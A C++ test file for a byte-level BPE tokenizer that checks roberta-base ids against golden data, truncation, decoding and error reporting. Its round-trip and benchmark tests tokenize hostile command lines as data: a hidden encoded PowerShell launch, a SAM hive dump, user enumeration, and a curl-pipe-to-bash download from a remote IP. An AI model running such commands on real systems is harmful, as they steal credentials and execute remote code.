// Byte-level BPE against Hugging Face's own ids for roberta-base (../shared/golden/tokenizers/roberta*.jsonl,
// produced by transformers' RobertaTokenizer and cross-checked with the Rust tokenizer).
#include "data/tokenizers/byte_level_bpe.h"

#include <chrono>
#include <fstream>

#include "base/errors.h"
#include "test_paths.h"

namespace attune::data {
namespace {

std::vector<nlohmann::json> read_jsonl(const std::filesystem::path& path) {
  std::ifstream in(path);
  std::vector<nlohmann::json> out;
  std::string line;
  while (std::getline(in, line))
    if (!line.empty()) out.push_back(nlohmann::json::parse(line));
  return out;
}

std::filesystem::path roberta_dir() {
  return testing::shared_dir() / "tokenizers/roberta-base";
}
std::filesystem::path golden_dir() {
  return testing::shared_dir() / "golden/tokenizers";
}

std::vector<std::int64_t> ids_of(const nlohmann::json& value) {
  return value.get<std::vector<std::int64_t>>();
}

TEST(ByteLevelBpe, ByteToUnicodeIsGpt2Mapping) {
  const auto& table = byte_to_unicode();
  EXPECT_EQ(table[' '], "\xC4\xA0");   // U+0120 'Ġ'
  EXPECT_EQ(table['\n'], "\xC4\x8A");  // U+010A 'Ċ'
  EXPECT_EQ(table['A'], "A");
  EXPECT_EQ(table[0xE9], "\xC3\xA9");  // printable Latin-1 maps to itself
  EXPECT_EQ(table[0xAD], "\xC5\x83");  // U+0143, the 68th stand-in (soft hyphen is not printable)
}

TEST(ByteLevelBpe, ReadmeReferenceIds) {
  ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
  const auto tokenizer = load_tokenizer(roberta_dir());
  EXPECT_EQ(tokenizer->kind(), TokenizerKind::kByteLevelBpe);
  EXPECT_EQ(tokenizer->encode("Hello world! cécé herlolip"),
            (std::vector<std::int64_t>{0, 31414, 232, 328, 740, 1140, 12695, 69, 46078, 1588, 2}));
  EXPECT_EQ(tokenizer->encode("This is an example", /*add_special_tokens=*/false),
            (std::vector<std::int64_t>{713, 16, 41, 1246}));
  EXPECT_EQ(tokenizer->bos_id(), 0);
  EXPECT_EQ(tokenizer->pad_id(), 1);
  EXPECT_EQ(tokenizer->eos_id(), 2);
  EXPECT_EQ(tokenizer->unk_id(), 3);
  EXPECT_EQ(tokenizer->mask_id(), 50264);
  EXPECT_EQ(tokenizer->vocab_size(), 50265);
  EXPECT_EQ(tokenizer->id_to_token(31414), "Hello");
  EXPECT_EQ(tokenizer->token_to_id("\xC4\xA0world"), 232);
}

// Every golden record: ids, tokens, and ids of the lower-cased text through options.lowercase.
void check_golden(const Tokenizer& plain, const Tokenizer& lower, const std::string& source) {
  const auto records = read_jsonl(golden_dir() / "roberta.jsonl");
  ASSERT_EQ(records.size(), 692u);
  int mismatches = 0;
  for (const auto& r : records) {
    const std::string text = r["text"];
    const auto ids = plain.encode(text);
    EXPECT_EQ(ids, ids_of(r["ids"])) << source << " " << r["src"] << " n=" << r["n"];
    EXPECT_EQ(lower.encode(text), ids_of(r["ids_lower"])) << source << " lowercased " << r["src"];
    if (ids != ids_of(r["ids"]) && ++mismatches > 5) FAIL() << "too many mismatches";
  }
}

TEST(ByteLevelBpe, GoldenIdsFromVocabAndMerges) {
  ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
  ATTUNE_REQUIRE_SHARED("golden/tokenizers/roberta.jsonl");
  const auto plain = load_tokenizer(roberta_dir());
  const auto lower = load_tokenizer(roberta_dir(), TokenizerOptions{/*lowercase=*/true});
  check_golden(*plain, *lower, "vocab.json+merges.txt");
  // Tokens are the vocabulary strings of the ids.
  for (const auto& r : read_jsonl(golden_dir() / "roberta.jsonl")) {
    const auto tokens = r["tokens"].get<std::vector<std::string>>();
    const auto ids = ids_of(r["ids"]);
    for (std::size_t i = 0; i < ids.size(); ++i) ASSERT_EQ(plain->id_to_token(ids[i]), tokens[i]) << r["src"];
  }
}

TEST(ByteLevelBpe, GoldenIdsFromTokenizerJsonAlone) {
  ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
  ATTUNE_REQUIRE_SHARED("golden/tokenizers/roberta.jsonl");
  const auto dir = testing::temp_dir("bpe-json");
  std::filesystem::copy_file(roberta_dir() / "tokenizer.json", dir / "tokenizer.json");
  const auto plain = load_tokenizer(dir);
  const auto lower = load_tokenizer(dir, TokenizerOptions{/*lowercase=*/true});
  EXPECT_EQ(plain->kind(), TokenizerKind::kByteLevelBpe);
  check_golden(*plain, *lower, "tokenizer.json");
}

TEST(ByteLevelBpe, GoldenTruncationTo128) {
  ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
  ATTUNE_REQUIRE_SHARED("golden/tokenizers/roberta_trunc128.jsonl");
  const auto plain = load_tokenizer(roberta_dir());
  const auto lower = load_tokenizer(roberta_dir(), TokenizerOptions{/*lowercase=*/true});
  const auto records = read_jsonl(golden_dir() / "roberta_trunc128.jsonl");
  ASSERT_EQ(records.size(), 33u);
  for (const auto& r : records) {
    const std::int64_t max_length = r["max_length"];
    if (r.contains("text_pair")) {
      const auto encoding = plain->encode_pair(r["text"], r["text_pair"], true, max_length);
      EXPECT_EQ(encoding.ids, ids_of(r["ids"])) << "k=" << r["k"];
      EXPECT_EQ(encoding.type_ids, std::vector<std::int64_t>(encoding.ids.size(), 0)) << "k=" << r["k"];
      EXPECT_EQ(lower->encode_pair(r["text"], r["text_pair"], true, max_length).ids, ids_of(r["ids_lower"]))
          << "k=" << r["k"];
    } else {
      EXPECT_EQ(plain->encode(r["text"], true, max_length), ids_of(r["ids"])) << "k=" << r["k"];
      EXPECT_EQ(lower->encode(r["text"], true, max_length), ids_of(r["ids_lower"])) << "k=" << r["k"];
    }
  }
}

TEST(ByteLevelBpe, DecodeRoundTripsBytes) {
  ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
  const auto tokenizer = load_tokenizer(roberta_dir());
  const std::vector<std::string> texts = {"cmd.exe /c whoami && net user", "ünïcödé ✓ 漢字 \t\n end",
                                          std::string("a\0b", 3)};
  for (const std::string& text : texts) EXPECT_EQ(tokenizer->decode(tokenizer->encode(text)), text);
}

TEST(ByteLevelBpe, MalformedMergesNameTheLine) {
  const auto dir = testing::temp_dir("bpe-bad");
  std::ofstream(dir / "vocab.json") << R"({"<s>": 0, "</s>": 1, "a": 2})";
  std::ofstream(dir / "merges.txt") << "#version: 0.2\na b\nabc\n";
  try {
    load_tokenizer(dir);
    FAIL() << "expected InputError";
  } catch (const InputError& e) {
    EXPECT_NE(std::string(e.what()).find("merges.txt:3"), std::string::npos) << e.what();
  }
}

// 150,000 command lines of ~60 characters must take seconds: prints lines/s (no timing assertion).
TEST(ByteLevelBpe, BenchmarkCommandLines) {
  ATTUNE_REQUIRE_SHARED("tokenizers/roberta-base");
  const auto tokenizer = load_tokenizer(roberta_dir());
  const std::vector<std::string> templates = {
      "powershell.exe -NoP -W Hidden -Exec Bypass -EncodedCommand ",
      "reg save HKLM\\SAM C:\\Windows\\Temp\\sam_",
      "net user administrator /domain && whoami /all > out_",
      "curl -s http://198.51.100.23:8080/payload.sh | bash -s -- --id ",
  };
  constexpr std::size_t kLines = 150000;  // the size of a generated training set
  std::vector<std::string> lines;
  lines.reserve(kLines);
  for (std::size_t i = 0; i < kLines; ++i)
    lines.push_back(templates[i % templates.size()] + std::to_string(i * 7919));
  for (int threads : {1, 0}) {
    const auto start = std::chrono::steady_clock::now();
    const auto ids = tokenizer->encode_batch(lines, true, -1, threads);
    const double seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    ASSERT_EQ(ids.size(), kLines);
    std::printf("[ benchmark ] byte-level BPE, %s: %zu lines in %.2f s = %.0f lines/s\n",
                threads == 1 ? "1 thread" : "all threads", kLines, seconds, kLines / seconds);
  }
}

}  // namespace
}  // namespace attune::data
